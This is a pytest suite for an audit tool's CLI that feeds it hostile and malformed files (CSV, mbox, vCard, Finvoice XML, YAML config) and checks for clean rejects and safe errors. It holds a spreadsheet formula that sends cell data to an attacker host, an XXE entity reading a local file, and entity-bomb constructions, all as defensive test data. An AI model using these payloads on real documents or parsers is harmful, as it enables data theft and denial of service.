"""Hostile and broken input, through the CLI: exact outcome for every file in tests/data/bad/.

Per-record faults: the rest of the file loads, each bad record is a reject row with a
reason, and the run has an ``I-rejected`` integrity finding with the count. Per-file
faults: exit 2, one line on stderr naming the file (and the place when known), no
traceback, no output folder. Nothing outside the input is ever read (XXE), and entity
bombs are refused in bounded memory and time.

Each case copies its bad file into ``tmp_path/in`` and writes a minimal config beside it
that uses the repository's ``audits/policy.yaml`` by absolute path.
"""

from __future__ import annotations

import csv
import shutil
import sys
import time
import tracemalloc
from dataclasses import dataclass, field
from pathlib import Path

import duckdb
import pytest

from audit_kit import warehouse
from audit_kit.cli.main import main
from audit_kit.config import SourceConfig
from audit_kit.loaders import get_loader

REPO = Path(__file__).resolve().parents[1]
BAD = REPO / "tests" / "data" / "bad"
POLICY = REPO / "audits" / "policy.yaml"
I_REJECTED = "{rej} of {read} records rejected; see the rejects table for each reason"


@pytest.fixture(autouse=True)
def _key_file(tmp_path_factory, monkeypatch):
    monkeypatch.setenv("AUDIT_KIT_KEY_FILE", str(tmp_path_factory.getbasetemp() / "audit.key"))


@dataclass
class Outcome:
    rc: int
    out: str
    err: str
    out_dir: Path

    def con(self) -> duckdb.DuckDBPyConnection:
        return duckdb.connect(str(self.out_dir / "warehouse.duckdb"), read_only=True)

    def findings(self) -> list[dict[str, str]]:
        with open(self.out_dir / "findings.csv", newline="", encoding="utf-8") as f:
            return list(csv.DictReader(f))


def write_config(tmp_path: Path, sources: list[dict], policy: Path = POLICY) -> Path:
    lines = ["organisation: Testi Oy", f"policy: {policy}", "as_of: '2026-12-31'", "sources:"]
    for s in sources:
        lines.append(f"- name: {s['name']}")
        lines += [f"  {k}: {v}" for k, v in s.items() if k != "name"]
    cfg = tmp_path / "audit.yaml"
    cfg.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return cfg


def run_cli(capsys, tmp_path: Path, cfg: Path, *extra: str) -> Outcome:
    out_dir = tmp_path / "out"
    rc = main(["run", str(cfg), "--out", str(out_dir), "--no-report", *extra])
    cap = capsys.readouterr()
    return Outcome(rc, cap.out, cap.err, out_dir)


def run_file(capsys, tmp_path: Path, name: str, kind: str, system: str, *,
             data: bytes | None = None, **keys) -> Outcome:
    inp = tmp_path / "in"
    inp.mkdir(exist_ok=True)
    dest = inp / name
    if data is None:
        shutil.copyfile(BAD / name, dest)
    else:
        dest.write_bytes(data)
    cfg = write_config(tmp_path, [{"name": "s", "kind": kind, "path": f"in/{name}",
                                   "system": system, **keys}])
    return run_cli(capsys, tmp_path, cfg)


def assert_file_fault(o: Outcome, line: str) -> None:
    """Exit 2, exactly one line on stderr, nothing on stdout, no output folder."""
    assert (o.rc, o.out, o.err) == (2, "", f"audit-kit: error: {line}\n")
    assert "Traceback" not in o.err
    assert not o.out_dir.exists()
    leftovers = [p.name for p in o.out_dir.parent.iterdir() if p.name.startswith(".out.")]
    assert leftovers == []


# -- per-record faults ----------------------------------------------------------------------

@dataclass
class RecordCase:
    file: str
    kind: str
    system: str
    format: str
    read: int
    loaded: int
    rejects: list[tuple[str, str]]
    keys: dict = field(default_factory=dict)
    marks: tuple = ()


RECORD_CASES = [
    RecordCase("csv_ragged.csv", "customers_csv", "billing", "csv (utf-8, ';')", 4, 2,
               [("line 3", "4 fields where the header has 5"),
                ("line 4", "6 fields where the header has 5")]),
    RecordCase("csv_unclosed_quote.csv", "customers_csv", "billing", "csv (utf-8, ';')", 2, 1,
               [("line 3", "unclosed quote; the rest of the file is one field")]),
    RecordCase("csv_mixed_encodings.csv", "customers_csv", "billing",
               "csv (utf-8 with lines in another encoding, ';')", 2, 1,
               [("line 3", "not UTF-8 while the rest of the file is (mixed encodings); "
                           "save the file again as UTF-8")]),
    RecordCase("mbox_nul_binary.mbox", "mbox", "mail", "mbox", 3, 2,
               [("offset 218", "no header fields: not an e-mail message")]),
    RecordCase("vcard_missing_end.vcf", "vcard", "android_backup", "vcard 3.0", 2, 1,
               [("card 2, line 6", "file ends before END:VCARD")]),
    RecordCase("vcard_broken_qp.vcf", "vcard", "android_backup", "vcard 2.1", 2, 1,
               [("card 2, line 9",
                 "broken quoted-printable value (= not followed by two hex digits)")]),
    RecordCase("vcard_unknown_version.vcf", "vcard", "android_backup", "vcard 3.0", 2, 1,
               [("card 2, line 7", "unsupported vCard VERSION (expected 2.1, 3.0 or 4.0)")]),
    RecordCase("postfix_garbage.log", "postfix_log", "mail",
               "postfix syslog (year from source.year)", 5, 2,
               [("line 2", "not a syslog line"), ("line 3", "not a syslog line"),
                ("line 4", "unparseable timestamp")], keys={"year": 2026}),
]


@pytest.mark.parametrize("case", RECORD_CASES, ids=[c.file for c in RECORD_CASES])
def test_record_faults_are_rejects_and_the_rest_loads(capsys, tmp_path, case: RecordCase):
    o = run_file(capsys, tmp_path, case.file, case.kind, case.system, **case.keys)
    assert o.err == ""
    assert o.rc == 1  # the repository policy's statement findings are errors
    with o.con() as con:
        counts = con.execute("SELECT format, records_read, records_loaded, records_rejected "
                             "FROM load_counts").fetchall()
        rejects = con.execute("SELECT file, record_ref, reason FROM rejects "
                              "ORDER BY rowid").fetchall()
        n_records = con.execute("SELECT count(DISTINCT record_ref) FROM records").fetchone()[0]
    rej = len(case.rejects)
    assert counts == [(case.format, case.read, case.loaded, rej)]
    assert rejects == [(f"in/{case.file}", ref, why) for ref, why in case.rejects]
    assert n_records == case.loaded
    integrity = [(f["rule_id"], f["severity"], f["source"], f["detail"])
                 for f in o.findings() if f["category"] == "integrity"]
    assert integrity == [("I-rejected", "warning", "s",
                          I_REJECTED.format(rej=rej, read=case.read))]


def test_truncated_mbox_last_message_is_a_reject(capsys, tmp_path):
    o = run_file(capsys, tmp_path, "mbox_truncated.mbox", "mbox", "mail")
    assert o.err == ""
    with o.con() as con:
        counts = con.execute("SELECT records_read, records_loaded, records_rejected "
                             "FROM load_counts").fetchall()
        rejects = con.execute("SELECT record_ref, reason FROM rejects").fetchall()
    assert counts == [(2, 1, 1)]
    assert [r for r, _ in rejects] == ["offset 217"]
    assert "truncated" in rejects[0][1]


def test_undecodable_rfc2047_words_keep_the_message_and_its_addresses(capsys, tmp_path):
    o = run_file(capsys, tmp_path, "eml_rfc2047_undecodable.eml", "eml", "mail")
    assert (o.rc, o.err) == (1, "")
    with o.con() as con:
        counts = con.execute("SELECT records_read, records_loaded, records_rejected "
                             "FROM load_counts").fetchall()
        rows = con.execute("SELECT email, person_name FROM records ORDER BY email").fetchall()
    assert counts == [(1, 1, 0)]
    # an unknown charset falls back to Latin-1 (right here); bad base64 stays as written
    assert rows[:2] == [("aino.makela@example.com", "Aino Mäkelä"),
                        ("eero.ylonen@example.com", "=?utf-8?B?!!!not base64!!!?=")]
    assert rows[2][0] == "liisa.aalto@example.com"
    assert [f["rule_id"] for f in o.findings() if f["category"] == "integrity"] == []


def test_invalid_utf8_encoded_word_is_not_mojibake(capsys, tmp_path):
    o = run_file(capsys, tmp_path, "eml_rfc2047_undecodable.eml", "eml", "mail")
    with o.con() as con:
        name = con.execute("SELECT person_name FROM records "
                           "WHERE email = 'liisa.aalto@example.com'").fetchone()[0]
    assert name in ("\ufffd\ufffd\ufffd", "=?utf-8?Q?=FF=FE=C3?=")


def _big_header_mbox() -> tuple[bytes, int]:
    first = (b"From - Mon Mar 02 09:00:00 2026\n"
             b"From: Aino Makela <aino.makela@example.com>\n"
             b"To: myynti@oulunkonttori.fi\n"
             b"Date: Mon, 2 Mar 2026 09:00:00 +0200\n"
             b"X-Big: " + b"A" * (10 * 1024 * 1024) + b"\n"
             b"Subject: iso otsake\n\nbody\n\n")
    second = (b"From - Tue Mar 03 10:00:00 2026\n"
              b"From: Eero Ylonen <eero.ylonen@example.com>\n"
              b"To: myynti@oulunkonttori.fi\n"
              b"Date: Tue, 3 Mar 2026 10:00:00 +0200\n\nbody\n")
    return first + second, len(first)


def test_ten_megabyte_header_loads_both_messages(capsys, tmp_path):
    data, second_at = _big_header_mbox()
    t0 = time.perf_counter()
    o = run_file(capsys, tmp_path, "big_header.mbox", "mbox", "mail", data=data)
    assert time.perf_counter() - t0 < 30
    assert o.err == ""
    with o.con() as con:
        counts = con.execute("SELECT records_read, records_loaded, records_rejected "
                             "FROM load_counts").fetchall()
        rows = con.execute("SELECT record_ref, email FROM records ORDER BY rec_id").fetchall()
    assert counts == [(2, 2, 0)]
    assert rows == [("offset 0", "aino.makela@example.com"),
                    (f"offset {second_at}", "eero.ylonen@example.com")]


def _load_direct(path: Path, kind: str, system: str = "mail"):
    """The loader alone, with tracemalloc's peak (Python and expat allocations)."""
    con = warehouse.connect()
    sink = warehouse.SourceSink(con, source="x", kind=kind, system=system)
    tracemalloc.start()
    try:
        try:
            res = get_loader(kind)(SourceConfig(name="x", kind=kind, path=path, system=system),
                                   sink)
        except Exception as exc:  # noqa: BLE001 - returned for the caller's exact assertion
            res = exc
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return res, peak


def test_ten_megabyte_header_memory_is_bounded(tmp_path):
    data, _ = _big_header_mbox()
    p = tmp_path / "big.mbox"
    p.write_bytes(data)
    res, peak = _load_direct(p, "mbox")
    assert (res.records_read, res.records_loaded, res.records_rejected) == (2, 2, 0)
    assert peak < 64 * 1024 * 1024  # measured ~21 MB: two copies of the header, no more


def test_formula_cells_load_as_text_and_are_neutralised_in_findings(capsys, tmp_path):
    o = run_file(capsys, tmp_path, "csv_formula.csv", "customers_csv", "billing")
    assert (o.rc, o.err) == (1, "")
    with o.con() as con:
        assert con.execute("SELECT records_read, records_loaded, records_rejected "
                           "FROM load_counts").fetchall() == [(3, 3, 0)]
        raw = con.execute('SELECT record_ref, "Yritys", "Kommentti" FROM src_s '
                          "ORDER BY record_ref").fetchall()
    # the warehouse keeps exactly what was read
    assert raw == [
        ("line 2", "Mäkelän Kone Oy",
         '=HYPERLINK("http://attacker.example.com/?x="&A1;"klikkaa")'),
        ("line 3", "@Ylösen Paja Oy", "-2+3"),
        ("line 4", "Aallon Asu Oy", "@SUM(A1)"),
    ]
    rows = [(f["rule_id"], f["record_ref"], f["email"], f["phone"], f["field"])
            for f in o.findings() if f["category"] != "statement"]
    assert rows == [
        ("R-customer", "line 2", "'=1+2@example.com", "+358401234567", ""),
        ("M-field", "line 3", "'-2+3@example.com", "+358407654321", "home_address"),
        ("M-field", "line 4", "'+sum@example.com", "", "home_address"),
    ]


# -- per-file faults ------------------------------------------------------------------------

FILE_CASES = [
    ("csv_empty.csv", "customers_csv", "billing",
     "in/csv_empty.csv: file is empty; export the register again"),
    ("csv_bom_only.csv", "erasure_requests", "workstations",
     "in/csv_bom_only.csv: file is empty; export the register again"),
    ("xlsx_corrupt.xlsx", "marketing_list", "workstations",
     "in/xlsx_corrupt.xlsx: not a readable XLSX workbook; save it again from Excel"),
    ("finvoice_billion_laughs.xml", "finvoice", "billing",
     "in/finvoice_billion_laughs.xml: XML refused as unsafe (EntitiesForbidden); entities and "
     "external references are not allowed"),
    ("finvoice_not_well_formed.xml", "finvoice", "billing",
     "in/finvoice_not_well_formed.xml (line 5, column 38): not well-formed XML (mismatched "
     "tag); fix or re-export the file"),
    ("finvoice_wrong_root.xml", "finvoice", "billing",
     "in/finvoice_wrong_root.xml: no Finvoice element found; is this a Finvoice file?"),
]


@pytest.mark.parametrize("name,kind,system,line", FILE_CASES, ids=[c[0] for c in FILE_CASES])
def test_file_faults_stop_the_run_with_one_line(capsys, tmp_path, name, kind, system, line):
    assert_file_fault(run_file(capsys, tmp_path, name, kind, system), line)


def test_header_only_csv_is_an_empty_register(capsys, tmp_path):
    """A register with no rows (e.g. no erasure requests yet) is not an error."""
    o = run_file(capsys, tmp_path, "csv_header_only.csv", "customers_csv", "billing")
    assert (o.rc, o.err) == (1, "")
    with o.con() as con:
        assert con.execute("SELECT format, records_read, records_loaded, records_rejected "
                           "FROM load_counts").fetchall() == [("csv (utf-8, ';')", 0, 0, 0)]


def test_header_only_csv_beside_another_source_loads_nothing(capsys, tmp_path):
    inp = tmp_path / "in"
    inp.mkdir()
    for n in ("csv_header_only.csv", "csv_ragged.csv"):
        shutil.copyfile(BAD / n, inp / n)
    cfg = write_config(tmp_path, [
        {"name": "empty", "kind": "customers_csv", "path": "in/csv_header_only.csv",
         "system": "billing"},
        {"name": "other", "kind": "customers_csv", "path": "in/csv_ragged.csv",
         "system": "billing"}])
    o = run_cli(capsys, tmp_path, cfg)
    assert (o.rc, o.err) == (1, "")
    with o.con() as con:
        assert con.execute("SELECT source, records_read, records_loaded, records_rejected "
                           "FROM load_counts ORDER BY source").fetchall() == [
            ("empty", 0, 0, 0), ("other", 4, 2, 2)]


# -- XML: nothing outside the input is read, bombs are bounded ------------------------------

class _OpenSpy:
    """Records every path opened while armed (sys.addaudithook cannot be removed)."""

    armed = False
    opened: list[str] = []

    @classmethod
    def hook(cls, event: str, args: tuple) -> None:
        if cls.armed and event in ("open", "os.open") and args and args[0] is not None:
            cls.opened.append(str(args[0]))


sys.addaudithook(_OpenSpy.hook)


@pytest.fixture
def secret(tmp_path):
    s = tmp_path / "outside" / "secret.txt"
    s.parent.mkdir()
    s.write_text("NOT-TO-BE-READ-7f3a\n", encoding="utf-8")
    return s


def _watch_opens(capsys, tmp_path, name: str, data: bytes) -> tuple[Outcome, list[str]]:
    _OpenSpy.opened = []
    _OpenSpy.armed = True
    try:
        o = run_file(capsys, tmp_path, name, "finvoice", "billing", data=data)
    finally:
        _OpenSpy.armed = False
    return o, list(_OpenSpy.opened)


def test_xxe_entity_is_refused_and_the_target_never_opened(capsys, tmp_path, secret):
    data = (BAD / "finvoice_xxe.xml").read_bytes().replace(b"@SECRET@", str(secret).encode())
    o, opened = _watch_opens(capsys, tmp_path, "finvoice_xxe.xml", data)
    assert_file_fault(o, "in/finvoice_xxe.xml: XML refused as unsafe (EntitiesForbidden); "
                         "entities and external references are not allowed")
    assert str(secret) not in opened
    assert any(p.endswith("in/finvoice_xxe.xml") for p in opened)  # the spy does see opens
    assert "NOT-TO-BE-READ" not in o.out + o.err


def test_external_dtd_is_never_fetched(capsys, tmp_path, secret):
    """A DOCTYPE naming an external DTD is allowed (Finvoice 1.x), but never loaded."""
    data = (BAD / "finvoice_external_dtd.xml").read_bytes().replace(
        b"@SECRET@", str(secret).encode())
    o, opened = _watch_opens(capsys, tmp_path, "finvoice_external_dtd.xml", data)
    assert str(secret) not in opened
    assert (o.rc, o.err) == (1, "")
    with o.con() as con:
        assert con.execute("SELECT records_read, records_loaded, records_rejected "
                           "FROM load_counts").fetchall() == [(1, 1, 0)]
        assert con.execute("SELECT person_name FROM records").fetchall() == [("Aino Mäkelä",)]
        text = con.execute("SELECT string_agg(value, '') FROM fields").fetchone()[0]
    assert "NOT-TO-BE-READ" not in text


@pytest.mark.parametrize("name", ["finvoice_billion_laughs.xml", "finvoice_quadratic.xml"])
def test_entity_bombs_are_refused_in_bounded_memory_and_time(tmp_path, name):
    from audit_kit.errors import InputError

    p = tmp_path / name
    if name == "finvoice_quadratic.xml":  # one 50 kB entity referenced 50,000 times
        body = (BAD / "finvoice_xxe.xml").read_text(encoding="utf-8")
        body = body.replace('<!ENTITY xxe SYSTEM "file://@SECRET@">',
                            '<!ENTITY xxe "' + "A" * 50_000 + '">')
        p.write_text(body.replace("&xxe;", "&xxe;" * 50_000), encoding="utf-8")
    else:
        shutil.copyfile(BAD / name, p)
    t0 = time.perf_counter()
    res, peak = _load_direct(p, "finvoice", "billing")
    assert time.perf_counter() - t0 < 10
    assert isinstance(res, InputError)
    assert res.message == ("XML refused as unsafe (EntitiesForbidden); entities and external "
                           "references are not allowed")
    assert peak < 32 * 1024 * 1024 + 2 * p.stat().st_size


# -- config and policy ----------------------------------------------------------------------

def _config_case(tmp_path: Path, name: str) -> Path:
    cfg = tmp_path / name
    cfg.write_text((BAD / name).read_text(encoding="utf-8").replace("@POLICY@", str(POLICY)),
                   encoding="utf-8")
    shutil.copyfile(BAD / "csv_ragged.csv", tmp_path / "csv_ragged.csv")
    return cfg


def test_config_pointing_at_a_missing_file(capsys, tmp_path):
    o = run_cli(capsys, tmp_path, _config_case(tmp_path, "config_missing_file.yaml"))
    assert_file_fault(o, f"{tmp_path}/no_such_export.csv (source customers): input not found; "
                         "check the source's path")


def test_config_with_an_unknown_kind(capsys, tmp_path):
    o = run_cli(capsys, tmp_path, _config_case(tmp_path, "config_unknown_kind.yaml"))
    assert_file_fault(o, f"{tmp_path}/config_unknown_kind.yaml (key sources[0].kind): "
                         "unknown source kind 'vcf'; known: customers_csv, service_contracts_csv, "
                         "marketing_list, marketing_optouts, erasure_requests, finvoice, vcard, "
                         "google_contacts_csv, mbox, maildir, eml, postfix_log")


def test_config_with_an_impossible_date(capsys, tmp_path):
    o = run_cli(capsys, tmp_path, _config_case(tmp_path, "config_bad_date.yaml"))
    assert_file_fault(o, f"{tmp_path}/config_bad_date.yaml (key as_of): '2026-02-30' is not "
                         "a date; write it as YYYY-MM-DD")


def test_config_with_an_unquoted_impossible_date(capsys, tmp_path):
    o = run_cli(capsys, tmp_path, _config_case(tmp_path, "config_bad_date_unquoted.yaml"))
    assert_file_fault(o, f"{tmp_path}/config_bad_date_unquoted.yaml: a date-like value is "
                         "not a real date; write dates as YYYY-MM-DD")


def test_bad_as_of_on_the_command_line(capsys, tmp_path):
    cfg = _config_case(tmp_path, "config_missing_file.yaml")
    o = run_cli(capsys, tmp_path, cfg, "--as-of", "31.12.2026")
    assert_file_fault(o, "--as-of '31.12.2026' is not a date; write it as YYYY-MM-DD")


def test_policy_with_a_wrong_key(capsys, tmp_path):
    text = POLICY.read_text(encoding="utf-8")
    needle = "role: customer_contact, counts_from: ended_on, months: 6"
    assert text.count(needle) == 1
    policy = tmp_path / "policy.yaml"
    policy.write_text(text.replace(needle, needle.replace("months", "monthz")), encoding="utf-8")
    shutil.copyfile(BAD / "csv_ragged.csv", tmp_path / "c.csv")
    cfg = write_config(tmp_path, [{"name": "c", "kind": "customers_csv", "path": "c.csv",
                                   "system": "billing"}], policy=policy)
    o = run_cli(capsys, tmp_path, cfg)
    assert_file_fault(o, f"{policy} (key retention.0.monthz): unknown key; see audits/policy.yaml "
                         "for the keys a policy has")


def test_config_that_is_not_yaml(capsys, tmp_path):
    cfg = tmp_path / "broken.yaml"
    cfg.write_text("organisation: [Testi Oy\nsources: []\n", encoding="utf-8")
    assert_file_fault(run_cli(capsys, tmp_path, cfg), f"{cfg} (line 2): not valid YAML")


def test_system_missing_from_the_policy(capsys, tmp_path):
    shutil.copyfile(BAD / "csv_ragged.csv", tmp_path / "c.csv")
    cfg = write_config(tmp_path, [{"name": "c", "kind": "customers_csv", "path": "c.csv",
                                   "system": "dropbox"}])
    o = run_cli(capsys, tmp_path, cfg)
    assert o.rc == 2 and o.out == "" and o.err.count("\n") == 1
    assert o.err.startswith(f"audit-kit: error: {cfg} (source c): system 'dropbox' is not in "
                            "the policy's systems inventory; known: ")


# -- reconciliation is an expectation (I-reconcile) -----------------------------------------

@pytest.mark.parametrize("lie,detail", [
    ({"records_read": 1}, "5 read, 2 loaded, 2 rejected: counts do not reconcile"),
    ({"records_rejected": 1, "records_read": 1},
     "5 read, 2 loaded, 3 rejected: counts do not reconcile"),  # 3 claimed, 2 reject rows
], ids=["a-record-lost", "rejects-without-rows"])
def test_a_loader_that_loses_a_record_fails_reconciliation(capsys, tmp_path, monkeypatch,
                                                           lie, detail):
    from audit_kit.loaders import LOADERS

    real = get_loader("customers_csv")

    def lossy(source, sink):
        res = real(source, sink)
        for k, n in lie.items():
            setattr(res, k, getattr(res, k) + n)
        return res

    monkeypatch.setitem(LOADERS, "customers_csv", lossy)
    o = run_file(capsys, tmp_path, "csv_ragged.csv", "customers_csv", "billing")
    assert (o.rc, o.err) == (1, "")
    integrity = [(f["rule_id"], f["severity"], f["source"], f["detail"])
                 for f in o.findings() if f["category"] == "integrity"]
    rej = 2 + lie.get("records_rejected", 0)
    assert integrity == [("I-reconcile", "error", "s", detail),
                         ("I-rejected", "warning", "s", I_REJECTED.format(rej=rej, read=5))]


def test_vcard_photo_uri_is_never_fetched(capsys, tmp_path, secret):
    data = (BAD / "vcard_photo_file_uri.vcf").read_bytes().replace(
        b"@SECRET@", str(secret).encode())
    _OpenSpy.opened = []
    _OpenSpy.armed = True
    try:
        o = run_file(capsys, tmp_path, "vcard_photo_file_uri.vcf", "vcard", "android_backup",
                     data=data)
    finally:
        _OpenSpy.armed = False
    assert str(secret) not in _OpenSpy.opened
    assert (o.rc, o.err) == (1, "")
    with o.con() as con:
        assert con.execute("SELECT records_read, records_loaded, records_rejected "
                           "FROM load_counts").fetchall() == [(1, 1, 0)]
        text = con.execute("SELECT string_agg(value, '') FROM fields").fetchone()[0]
    assert "NOT-TO-BE-READ" not in text


def test_a_quote_inside_a_header_is_kept_as_a_column_name(capsys, tmp_path):
    o = run_file(capsys, tmp_path, "csv_quote_in_header.csv", "customers_csv", "billing")
    assert o.err == ""
    with o.con() as con:
        assert con.execute('SELECT "Huom""autus" FROM src_s').fetchall() == [("ei",)]
        assert con.execute("SELECT records_read, records_loaded, records_rejected "
                           "FROM load_counts").fetchall() == [(1, 1, 0)]


@pytest.mark.parametrize("exc,kind,message", [
    (duckdb.ParserException("LINE 1: Aino Mäkelä"), "RuleError",
     "warehouse query failed (ParserException); rerun with --debug for the query"),
    (duckdb.InvalidInputException("Aino"), "RuleError",
     "warehouse query failed (InvalidInputException); rerun with --debug for the query"),
    (UnicodeDecodeError("utf-8", b"\xff", 0, 1, "bad"), "InputError",
     "text could not be decoded; give the file's encoding in the source entry"),
    (ValueError("Aino Mäkelä"), "AuditKitError",
     "unexpected internal error (ValueError); rerun with --debug and report it"),
])
def test_translate_names_the_type_never_the_message(exc, kind, message):
    from audit_kit.errors import translate

    err = translate(exc, file="in/x.csv")
    assert (type(err).__name__, err.one_line()) == (kind, f"in/x.csv: {message}")
